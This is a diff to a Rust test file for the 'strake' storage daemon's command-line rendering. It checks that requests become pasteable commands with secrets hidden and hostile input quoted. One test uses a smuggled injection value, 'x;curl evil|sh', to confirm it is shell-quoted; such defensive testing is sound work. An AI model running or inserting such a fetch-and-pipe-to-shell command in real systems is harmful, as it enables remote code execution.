@@ -1,41 +1,52 @@
-use crate::typed::FORMS;
-use crate::{Text, Typed, command, has_request, import, replace, say, show, shown};
+use crate::{
+    ApiCommand, EachRequest, Text, command, each_request, has_request, import, replace, say, show,
+    shown,
+};
+use serde::Serialize;
+use serde::de::DeserializeOwned;
 use serde_json::{Value, json};
 use strake_api::v1 as api;
 use strake_api::v1::TextPart;
 
 /// Fields that are not typed by themselves: a dry run is not recorded, a document is too long, the kind of a hook
-/// decides how its target is typed, and no remedy names what the others choose.
-const UNTYPED: [&str; 8] =
-    ["dry_run", "json", "target", "from", "interval_us", "object", "kind", "severity"];
+/// decides how the others are typed, and no remedy names what the others choose.
+const UNTYPED: [&str; 9] =
+    ["dry_run", "json", "target", "from", "server", "interval_us", "object", "kind", "severity"];
 
-/// The history: a record of `export create` did not say `--via`, `--nqn`, `--allow-host`, `--namespace` and `--secure`,
-/// and one of `array create` not `--strip`, `--block-size` and `--consistency`.
-#[test]
-fn every_option_of_a_request_is_typed() {
-    let mut fields = 0;
-    for (request, default, typed) in FORMS {
-        let default = default();
-        let plain = typed(default.clone()).expect("the default has a form");
+/// How many fields were looked at.
+struct Fields(usize);
+
+impl EachRequest for Fields {
+    fn request<R: ApiCommand + Default + Serialize + DeserializeOwned>(&mut self, request: &str) {
+        let plain = R::default().line();
+        let default = serde_json::to_value(R::default()).expect("it has a JSON form");
         let names = default.as_object().expect("a message is an object").keys();
         for name in names.filter(|name| !UNTYPED.contains(&name.as_str())) {
             let values = [json!(true), json!(7), json!("repair"), json!(["one", "two"])];
             let differs = values.into_iter().any(|value| {
                 let mut changed = default.clone();
                 changed[name] = value;
-                typed(changed).is_some_and(|typed| typed != plain)
+                serde_json::from_value(changed).is_ok_and(|request: R| request.line() != plain)
             });
             assert!(differs, "{request}: {name} is missing in {plain:?}");
-            fields += 1;
+            self.0 += 1;
         }
     }
-    assert!(fields > 100, "{fields} fields were looked at");
+}
+
+/// The history: a record of `export create` did not say `--via`, `--nqn`, `--allow-host`, `--namespace` and `--secure`,
+/// and one of `array create` not `--strip`, `--block-size` and `--consistency`.
+#[test]
+fn every_option_of_a_request_is_typed() {
+    let mut fields = Fields(0);
+    each_request(&mut fields);
+    assert!(fields.0 > 100, "{} fields were looked at", fields.0);
 }
 
 #[test]
 fn requests_are_typed_as_operators_type_them() {
-    fn check(request: &impl Typed, expected: &str) {
-        assert_eq!(request.typed(), expected);
+    fn check(request: &impl ApiCommand, expected: &str) {
+        assert_eq!(request.line().advised, expected);
     }
     check(
         &api::CreateExportRequest {
@@ -77,6 +88,13 @@ fn requests_are_typed_as_operators_type_them() {
     check(&settings, "array set tank --auto-replace on --scrub-every 14d --scrub-repair off");
     check(&replace("tank", Some(2), ""), "array replace tank --member 2 --with DRIVE");
     check(&replace("tank", None, "sda"), "array replace tank --member N --with sda");
+    // The record of commands has no placeholder.
+    let typed = replace("tank", Some(2), "").line().typed;
+    assert_eq!(typed, "array replace tank --member 2 --with ''");
+    assert_eq!(
+        api::CreateExportRequest::default().line().typed,
+        "export create '' --via nbd --listen ''"
+    );
 }
 
 /// The record of commands is read by more than those who may know the secrets.
@@ -113,10 +131,14 @@ fn a_text_and_its_parts_say_the_same() {
     assert_eq!(shown(&text.parts, "other"), text.words);
     assert!(has_request(&text.parts) && !has_request(&say("wait").parts));
     assert_eq!(say("").parts, []);
-    // A request that a newer daemon names.
+    // A request that a newer daemon names, and one with a field that only a newer daemon knows.
+    let newer = "other (written by a newer version of strake)";
     let mut parts = text.parts;
-    parts.push(TextPart { part: None });
-    assert_eq!(shown(&parts, "other"), "other");
+    parts[1].part_bytes += 3;
+    assert_eq!(shown(&parts, "other"), newer);
+    parts[1].part_bytes -= 3;
+    parts.push(TextPart::default());
+    assert_eq!(shown(&parts, "other"), newer);
     // An older daemon sends none.
     assert_eq!(shown(&[], "other"), "other");
 }
@@ -125,13 +147,22 @@ fn a_text_and_its_parts_say_the_same() {
 fn a_part_has_the_names_of_the_proto_file_as_json() {
     let text = say("see ").run(show("tank"));
     let json = serde_json::to_value(&text.parts).expect("messages have a JSON form");
-    assert_eq!(json, json!([{ "words": "see " }, { "get_array": { "name": "tank" } }]));
+    assert_eq!(
+        json,
+        json!([
+            { "words": "see ", "part_bytes": 0 },
+            { "get_array": { "name": "tank" }, "part_bytes": 8 },
+        ])
+    );
     let back: Vec<TextPart> = serde_json::from_value(json).expect("it reads back");
     assert_eq!(back, text.parts);
     // What a newer version wrote to the file of events.
     let newer: Value = json!([{ "words": "see " }, { "get_volume": { "name": "v" } }]);
     let newer: Vec<TextPart> = serde_json::from_value(newer).expect("it is passed over");
-    assert_eq!(shown(&newer, "other"), "other");
+    assert_eq!(shown(&newer, "other"), "other (written by a newer version of strake)");
+    let newer = json!([{ "get_array": { "name": "tank", "at": 7 }, "part_bytes": 10 }]);
+    let newer: Vec<TextPart> = serde_json::from_value(newer).expect("the field is passed over");
+    assert_eq!(shown(&newer, "other"), "other (written by a newer version of strake)");
 }
 
 /// Addresses of webhooks and mail servers may hold passwords; documents come from a file.
@@ -144,15 +175,15 @@ fn hooks_and_backups_are_typed_without_what_files_hold() {
         ..Default::default()
     };
     let webhook = hook("webhook", "https://u:secret@h/");
-    assert_eq!(webhook.typed(), "hook add ops --webhook-file FILE");
-    assert_eq!(hook("exec", "/bin/a b").typed(), "hook add ops --exec '/bin/a b'");
+    assert_eq!(webhook.line().typed, "hook add ops --webhook-file FILE");
+    assert_eq!(hook("exec", "/bin/a b").line().typed, "hook add ops --exec '/bin/a b'");
     let mail = api::AddHookRequest {
         server: "smtps://u:secret@h:465".into(),
         from: "a@h".into(),
         ..hook("email", "b@h")
     };
-    assert_eq!(mail.typed(), "hook add ops --email b@h --server-file FILE --from a@h");
-    assert_eq!(api::RestoreConfigRequest::default().typed(), "config restore FILE");
+    assert_eq!(mail.line().typed, "hook add ops --email b@h --server-file FILE --from a@h");
+    assert_eq!(api::RestoreConfigRequest::default().line().typed, "config restore FILE");
 }
 
 /// Names and addresses may come from a drive or a remote host, and an operator pastes the command.
@@ -160,7 +191,7 @@ fn hooks_and_backups_are_typed_without_what_files_hold() {
 fn what_a_drive_spells_is_one_word_of_the_command() {
     let offer = |nqn: &str| {
         let request = api::CreateExportRequest { nqn: nqn.into(), ..Default::default() };
-        request.typed()
+        request.line().advised
     };
     assert_eq!(offer("nqn.x:[::1]"), "export create --nqn nqn.x:[::1]");
     assert_eq!(offer("x;curl evil|sh"), "export create --nqn 'x;curl evil|sh'");
@@ -168,5 +199,5 @@ fn what_a_drive_spells_is_one_word_of_the_command() {
     assert_eq!(offer("x\nsh\r\u{1b}["), "export create --nqn 'x\u{fffd}sh\u{fffd}\u{fffd}['");
     let connect =
         api::ConnectDriveRequest { address: "nvme-tcp://a/b?nsid=2".into(), ..Default::default() };
-    assert_eq!(connect.typed(), "drive connect 'nvme-tcp://a/b?nsid=2'");
+    assert_eq!(connect.line().typed, "drive connect 'nvme-tcp://a/b?nsid=2'");
 }
